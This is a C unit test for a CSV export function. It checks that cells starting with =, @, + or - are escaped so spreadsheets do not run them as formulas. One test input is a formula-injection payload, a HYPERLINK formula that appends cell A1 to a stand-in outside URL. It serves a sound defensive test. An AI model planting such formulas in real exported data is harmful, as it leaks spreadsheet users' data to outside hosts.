/* Cells of tables. */
#include "ui/files/csv_text.h"

#include <stdlib.h>

#include "tests/fixture/unit.h"

static const char *cell(const char *text) {
    static char to[256];
    FILE *f = fmemopen(to, sizeof to, "w");
    assert_non_null(f);
    sq_csv_put(f, text);
    fclose(f);
    return to;
}

/* A spreadsheet carries a formula out, also one that somebody has for a name. */
static void no_text_is_a_formula(void **state) {
    (void)state;
    assert_string_equal(cell("=HYPERLINK(\"http://x/\"&A1)"), "\"'=HYPERLINK(\"\"http://x/\"\"&A1)\"");
    assert_string_equal(cell("@a"), "\"'@a\"");
    assert_string_equal(cell("+1"), "\"'+1\"");
    assert_string_equal(cell("-1"), "\"'-1\"");
    assert_string_equal(cell("Ann-Lee = 1"), "\"Ann-Lee = 1\"");
    assert_string_equal(cell(""), "\"\"");
}

int main(void) {
    const struct CMUnitTest tests[] = {cmocka_unit_test(no_text_is_a_formula)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
